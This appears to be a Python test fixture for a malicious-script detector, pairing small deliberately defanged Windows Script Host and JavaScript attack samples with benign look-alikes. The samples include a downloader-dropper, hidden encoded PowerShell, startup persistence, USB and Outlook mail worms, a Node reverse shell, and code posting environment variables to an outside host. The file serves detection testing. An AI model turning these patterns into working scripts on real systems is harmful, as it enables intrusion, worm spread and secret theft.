# ruff: noqa: E501 -- a line of a script is one line here, too
from tests.engine.script_texts import encoded, pair

SHELL = 'Set s = CreateObject("WScript.Sh¦ell")\r\n'
HTTP = 'Set h = CreateObject("MSXML2.XML¦HTTP")\r\nh.Open "GET", "https://example.com/a", False\r\nh.Send\r\n'
SAVE = 'Set f = CreateObject("ADODB.Str¦eam")\r\nf.Open\r\nf.Write h.responseBody\r\nf.SaveTo¦File p, 2\r\n'
LIST = (
    'For Each f In CreateObject("Scripting.FileSystemObject").GetFolder(".").Files\r\nWScript.Echo f.Name\r\nNext\r\n'
)

CASES = {
    "wsh.conditional_object": pair(
        "a.js", '/*@cc_on var s = new ActiveXObject("WScript.Sh¦ell"); @*/\n', "/*@cc_on var ie = true; @*/\n"
    ),
    "wsh.shell_object": pair("a.vbs", SHELL + 'WScript.Echo s.ExpandEnvironmentStrings("%USERNAME%")\r\n', LIST),
    "wsh.http_object": pair("a.vbs", HTTP + "WScript.Echo h.status\r\n", LIST),
    "wsh.stream_save": pair("a.vbs", SAVE, 'Set f = CreateObject("ADODB.Stream")\r\nf.LoadFromFile "a.csv"\r\n'),
    "wsh.run": pair("a.vbs", SHELL + 's.Run "notepad.exe"\r\n', SHELL + "WScript.Echo s.CurrentDirectory\r\n"),
    "wsh.dropper": pair("a.vbs", SHELL + HTTP + SAVE + "s.Run p\r\n", HTTP + SAVE + 'WScript.Echo "saved"\r\n'),
    "wsh.runs_powershell": pair(
        "a.vbs", SHELL + 's.Run "power¦shell -File job.ps1"\r\n', SHELL + 's.Run "notepad.exe"\r\n'
    ),
    "wsh.hidden_powershell": pair(
        "a.vbs",
        SHELL + f's.Run "power¦shell -w hid¦den -e {encoded("Get-Date | Out-File C:/now.txt")}", 0\r\n',
        SHELL + 's.Run "powershell -File job.ps1"\r\n',
    ),
    "wsh.remote_scriptlet": pair(
        "a.vbs", 'GetObject("script¦:https://example.com/a.sct")\r\n', 'Set w = GetObject("winmgmts:")\r\n'
    ),
    "wsh.startup_copy": pair(
        "a.vbs",
        'Set f = CreateObject("Scripting.FileSystemObject")\r\nd = s.SpecialFolders("Startup")\r\nf.Copy¦File WScript.ScriptFull¦Name, d & "\\a.vbs"\r\n',
        'WScript.Echo WScript.ScriptFullName\r\nWScript.Echo "Startup"\r\n',
    ),
    "wsh.drive_worm": pair(
        "a.vbs",
        'For Each d In f.Drives\r\nIf d.DriveType = 1 Then\r\nf.Copy¦File WScript.ScriptFull¦Name, d.Path & "\\a.vbs"\r\n'
        'Set l = s.Create¦Shortcut(d.Path & "\\b.lnk")\r\nEnd If\r\nNext\r\n',
        "For Each d In f.Drives\r\nWScript.Echo d.DriveLetter & d.DriveType\r\nNext\r\n",
    ),
    "wsh.memory_program": pair(
        "a.js",
        'var f = new ActiveXObject("System.Runtime.Serialization.Formatters.Binary.Binary¦Formatter");\nvar d = f.Deser¦ialize_2(stream);\n',
        'var f = new ActiveXObject("System.Collections.ArrayList");\nf.Add(1);\n',
    ),
    "wsh.wmi_process": pair(
        "a.vbs",
        'Set p = GetObject("winmgmts:Win32_¦Process")\r\np.Cre¦ate "cmd /c dir"\r\n',
        'For Each p In GetObject("winmgmts:").ExecQuery("Select * from Win32_Process")\r\nWScript.Echo p.Name\r\nNext\r\n',
    ),
    "wsh.mail_worm": pair(
        "a.vbs",
        'Set o = CreateObject("Outlook.Application")\r\nFor Each e In o.GetNameSpace("MAPI").Address¦Lists(1).Address¦Entries\r\n'
        "Set m = o.CreateItem(0)\r\nm.To = e\r\nm.Attach¦ments.Add WScript.ScriptFullName\r\nm.Send\r\nNext\r\n",
        'Set o = CreateObject("Outlook.Application")\r\nSet m = o.CreateItem(0)\r\nm.To = "a@example.com"\r\nm.Attachments.Add "C:\\list.csv"\r\nm.Display\r\n',
    ),
    "wsh.hidden_object": pair(
        "a.js",
        'var s = new ActiveXObject("WSc" + "ript" + ".Sh" + "ell");\nvar h = new ActiveXObject("MSX" + "ML2.X" + "ML" + "HTTP");\n'
        'h["op" + "en"]("GET", "https://example.com/a", false);\n',
        'var names = ["red" + "dish", "green" + "ish"];\nWScript.Echo(names.join(","));\n',
    ),
    "wsh.node_program": pair(
        "a.js",
        'const c = require("child_¦process");\nc.exec("cu¦rl https://example.com/a.sh -o a.sh");\n',
        'const c = require("child_process");\nc.exec("git status");\n',
    ),
    "javascript.reverse_shell": pair(
        "a.js",
        'var net = require("net"), cp = require("child_¦process"), sh = cp.spawn("/bin/¦sh", []);\nvar c = new net.Socket();\n'
        'c.connect(4444, "192.0.2.1", function(){ c.pi¦pe(sh.stdin); sh.stdout.pi¦pe(c); });\n',
        'var net = require("net");\nvar c = net.connect(80, "example.com");\nc.pipe(process.stdout);\n',
    ),
    "javascript.environment_sent": pair(
        "a.js",
        'const https = require("https");\nconst body = JSON.stringify(process.en¦v);\nhttps.request({hostname: "x.oast.fun", method: "POST"}).end(body);\n',
        'const https = require("https");\nhttps.get("https://example.com/" + process.env.NAME);\n',
    ),
}
